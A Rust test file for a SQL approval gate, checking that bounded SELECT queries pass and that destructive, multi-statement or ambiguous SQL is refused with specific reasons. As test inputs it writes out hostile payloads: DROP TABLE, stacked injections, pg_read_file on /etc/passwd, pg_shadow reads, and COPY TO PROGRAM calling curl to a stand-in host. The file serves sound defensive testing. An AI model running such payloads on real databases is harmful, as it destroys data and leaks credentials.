//! SQL through the gate: what it does is told from its text before a database sees it.

use super::{End, Scene, UNEVALUABLE, UNMET, json};
use End::By;

fn order(path: &str, sql: &str) -> crate::approvals::talk::Order {
    json(path, serde_json::json!({ "sql": sql }).to_string())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_select_passes_and_what_does_more_is_refused_with_its_why() {
    let scene = Scene::open().await;
    let path = "/t/mirror/sql";
    let mut cases = Vec::new();
    for (sql, end) in [
        ("SELECT * FROM tickets LIMIT 10", By("sql")),
        (
            "select t.id, c.name from tickets t join customers c on c.id = t.customer LIMIT 1000;",
            By("sql"),
        ),
        (
            "WITH open AS (SELECT * FROM tickets) SELECT count(*) FROM open LIMIT 1",
            By("sql"),
        ),
        (
            "SELECT 'DROP TABLE users; --' FROM tickets LIMIT 1",
            By("sql"),
        ),
        ("SELECT * FROM tickets", UNMET),
        ("SELECT * FROM tickets LIMIT 1001", UNMET),
        ("DROP TABLE users", UNMET),
        ("SELECT 1; DROP TABLE users", UNMET),
        ("SELECT 1 LIMIT 1; SELECT 2 LIMIT 1", UNMET),
        (
            "WITH x AS (DELETE FROM tickets RETURNING *) SELECT * FROM x LIMIT 1",
            UNMET,
        ),
        ("SELECT * INTO evil FROM tickets", UNMET),
        ("SELECT * FROM users LIMIT 1", UNMET),
        ("SELECT * FROM ONLY (users) LIMIT 1", UNMET),
        ("SELECT pg_read_file('/etc/passwd') LIMIT 1", UNMET),
        ("COPY tickets TO PROGRAM 'curl evil'", UNMET),
        ("EXPLAIN ANALYZE DELETE FROM tickets", UNMET),
        ("SELECT * FROM tickets INTO OUTFILE '/tmp/x'", UNEVALUABLE),
        ("SELECT 1 END, passwd FROM pg_shadow", UNEVALUABLE),
        ("SELECT 1 /*! ; DROP TABLE users */", UNEVALUABLE),
        ("SELECT 1 --DROP TABLE users", UNEVALUABLE),
        ("SELECT U&\"pg\\005fsleep\"(9)", UNEVALUABLE),
        ("SELECT\u{a0}1", UNEVALUABLE),
        ("SELECT 1\0; DROP TABLE users", UNEVALUABLE),
        ("please show me the tickets", UNEVALUABLE),
        ("", UNEVALUABLE),
    ] {
        cases.push((sql.to_owned(), order(path, sql), end));
    }
    cases.push((
        "not text".into(),
        json(path, "{\"sql\":[\"SELECT 1\"]}"),
        UNEVALUABLE,
    ));
    cases.push((
        "another name".into(),
        json(path, "{\"SQL\":\"SELECT 1\"}"),
        UNEVALUABLE,
    ));
    let long = format!("SELECT {} LIMIT 1", "1,".repeat(40_000) + "1");
    cases.push(("long".into(), order(path, &long), UNEVALUABLE));
    let deep = format!("SELECT {}1{} LIMIT 1", "(".repeat(5000), ")".repeat(5000));
    cases.push(("deep".into(), order(path, &deep), UNEVALUABLE));
    scene.check(cases).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn who_is_refused_reads_which_part_of_the_call_and_what_in_it_is_not_allowed() {
    let scene = Scene::open().await;
    for (path, sql, status, words) in [
        ("sql", "DROP TABLE users", 403, "a statement other than"),
        (
            "sql",
            "SELECT * FROM users LIMIT 1",
            403,
            "reads a table that is not listed: users",
        ),
        (
            "sql",
            "SELECT pg_sleep(9) LIMIT 1",
            403,
            "calls a function that is not allowed: pg_sleep",
        ),
        ("sql", "SELECT 1; SELECT 2", 403, "it has 2 statements"),
        (
            "sql",
            "SELECT * FORM tickets",
            400,
            "it can't be parsed as postgres",
        ),
        (
            "sql",
            "SELECT 1 /*! x */",
            400,
            "servers read that in different ways",
        ),
        (
            "change",
            "DELETE FROM tickets",
            403,
            "it changes rows without bounds",
        ),
        (
            "change",
            "DELETE FROM customers WHERE id = 1",
            403,
            "writes a table that is not listed: customers",
        ),
    ] {
        let answer = scene.send(&order(&format!("/t/mirror/{path}"), sql)).await;
        let answer = answer.expect(status);
        let problem = answer.json();
        let reason = if status == 400 {
            "unevaluable"
        } else {
            "condition_unmet"
        };
        assert_eq!(problem["reason"], reason, "{sql}");
        let detail = problem["detail"].as_str().unwrap();
        assert!(
            detail.contains("`body./sql`") && detail.contains(words),
            "{sql}: {detail}"
        );
    }
    let passes = order(
        "/t/mirror/change",
        "UPDATE tickets SET state = 'closed' WHERE id = 7",
    );
    scene.send(&passes).await.expect(200);
    assert_eq!(scene.backend.total(), 1);
}
